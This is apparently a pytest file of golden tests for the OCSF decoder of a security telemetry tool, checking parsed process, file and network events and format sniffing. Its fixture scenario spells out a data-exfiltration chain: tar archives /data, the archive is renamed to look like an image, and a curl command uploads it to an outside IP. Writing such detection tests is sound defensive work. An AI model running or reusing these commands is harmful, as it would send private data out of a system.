"""Golden tests for the OCSF source: process, file system and network activity as JSON lines."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import read
from tidewaiter.events import (
    Activity,
    Container,
    Endpoint,
    Event,
    File,
    Image,
    Kind,
    Process,
    RawRef,
    Traffic,
)
from tidewaiter.sources import get
from tidewaiter.sources.ocsf import OcsfDecoder

CONTAINER = Container(
    uid="5f0c2b8e9d7a41c3b6e8f9a0d1c2b3a4e5f60718293a4b5c6d7e8f9a0b1c2d3e",
    name="backup",
    image=Image(
        name="registry.example.com/payments/backup:1.4.2",  # OCSF's separate tag, joined
        uid="sha256:3b8d1f6e2a4c5b7d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7",
    ),
    runtime="containerd",
)
SH = Process(
    pid=4210,
    uid="9d2c5a4e-0001-4000-8000-000000004210",
    path="/bin/sh",
    cmd_line="/bin/sh -c backup.sh",
    user="root",
)
TAR = Process(
    pid=4211,
    uid="9d2c5a4e-0001-4000-8000-000000004211",
    path="/usr/bin/tar",
    cmd_line="tar -czf /tmp/x.tgz /data",
    cwd="/srv/backup",
    user="root",
    parent=SH,
)
CURL = Process(
    pid=4230,
    uid="9d2c5a4e-0001-4000-8000-000000004230",
    path="/usr/bin/curl",
    cmd_line="curl -sT /tmp/x.tgz https://203.0.113.7/upload",
    user="root",
    parent=SH,
)
POD = Endpoint(ip="10.244.1.17", port=48110)
UPLOAD = Endpoint(ip="203.0.113.7", port=443, hostname="upload.example.net")

FALCO = (
    b'{"output":"...","priority":"Notice","rule":"x","time":"2024-01-01T00:00:00Z",'
    b'"output_fields":{"proc.name":"tar"}}\n'
)
ZEEK = b'{"ts":1.0,"uid":"C1","id.orig_h":"10.0.0.1"}\n'


def event(
    path: Path,
    line: int,
    time: float,
    kind: Kind,
    activity: Activity,
    process: Process,
    container: Container | None = CONTAINER,
    *,
    file: File | None = None,
    dst_endpoint: Endpoint | None = None,
    traffic: Traffic | None = None,
) -> Event:
    return Event(
        time=time,
        kind=kind,
        activity=activity,
        raw=RawRef("ocsf", str(path), line=line),
        host="worker-2",
        container=container,
        process=process,
        file=file,
        src_endpoint=POD if dst_endpoint else None,
        dst_endpoint=dst_endpoint,
        traffic=traffic,
    )


def test_events(fixtures: Path) -> None:
    path = fixtures / "ocsf" / "events.jsonl"
    events, report = read(path)
    assert report.files == {str(path): "ocsf"}
    assert events == [
        event(path, 1, 1714644001.123, Kind.PROCESS, Activity.LAUNCH, TAR),
        event(path, 2, 1714644001.13, Kind.FILE, Activity.CREATE, TAR, file=File("/tmp/x.tgz")),
        # a rename reports the name the file has now, with file_result's size
        event(
            path,
            3,
            1714644005.8,
            Kind.FILE,
            Activity.RENAME,
            TAR,
            file=File("/tmp/thumbs.jpg", size=7340032),
        ),
        event(path, 4, 1714644005.9, Kind.PROCESS, Activity.EXIT, TAR),
        event(path, 5, 1714644006.3, Kind.NETWORK, Activity.CONNECT, CURL, dst_endpoint=UPLOAD),
        event(
            path,
            6,
            1714644007.02,
            Kind.NETWORK,
            Activity.TRAFFIC,
            CURL,
            dst_endpoint=UPLOAD,
            traffic=Traffic(bytes_out=7340032, bytes_in=512),
        ),
        # time and pid as strings; no parent_process, so the launching actor is the parent;
        # no container profile
        event(
            path,
            7,
            1714644008.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            Process(
                pid=4231,
                uid=CURL.uid,
                path=CURL.path,
                cmd_line=CURL.cmd_line,
                user="root",
                parent=SH,
            ),
            container=None,
        ),
        # invalid UTF-8 in the command line: the event survives with U+FFFD
        event(
            path,
            15,
            1714644014.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            Process(
                pid=4299,
                uid=TAR.uid,
                path=TAR.path,
                cmd_line="tar -czf /tmp/\ufffd(.tgz /data",
                cwd="/srv/backup",
                user="root",
            ),
        ),
    ]
    # line 9 is Authentication (3002), line 10 a file Read: nothing to use
    assert (report.records, report.events, report.ignored) == (15, 8, 2)
    problems = [
        ("line 11", "record has no class_uid"),
        ("line 12", "malformed JSON"),
        ("line 13", "network activity without dst_endpoint"),
        ("line 14", "file activity without file.path"),
        ("line 16", "not a JSON object"),
    ]
    assert [(p.where, p.reason) for p in report.examples] == problems
    assert report.skipped == Counter(reason for _, reason in problems)


def test_the_acting_process_container_and_numbers_as_strings() -> None:
    line = (
        b'{"class_uid":4001,"activity_id":6,"time":1714644007020,"actor":{"process":{"pid":5,'
        b'"container":{"uid":"containerd://5F0C2B8E9D7A","name":"backup"}}},'
        b'"dst_endpoint":{"ip":"203.0.113.7","port":"443"},"traffic":{"bytes_out":"10"}}'
    )
    [found] = OcsfDecoder().feed(line, RawRef("ocsf", "mem", line=1))
    assert found.container == Container(uid="5f0c2b8e9d7a", name="backup")
    assert found.dst_endpoint == Endpoint(ip="203.0.113.7", port=443)
    assert found.traffic == Traffic(bytes_out=10)


def test_sniff_accepts_ocsf(fixtures: Path) -> None:
    assert get("ocsf").sniff((fixtures / "ocsf" / "events.jsonl").read_bytes())
    # any OCSF class: a file may open with one tidewaiter does not read
    assert get("ocsf").sniff(b'{"class_uid":3002,"activity_id":1,"time":1714644009000}\n')


@pytest.mark.parametrize(
    "head",
    [
        FALCO,
        ZEEK,
        b'{"class_uid":"x","activity_id":1}\n',
        b'{"uid":"C1","class_uid":7}\n',  # class_uid alone is not enough
        b"\x00\xff\xfe garbage\n",
        b"",
    ],
)
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("ocsf").sniff(head)


@pytest.mark.parametrize("name", ["export.jsonl", "pretty.json"])
def test_sniff_rejects_tetragon(fixtures: Path, name: str) -> None:
    assert not get("ocsf").sniff((fixtures / "tetragon" / name).read_bytes())
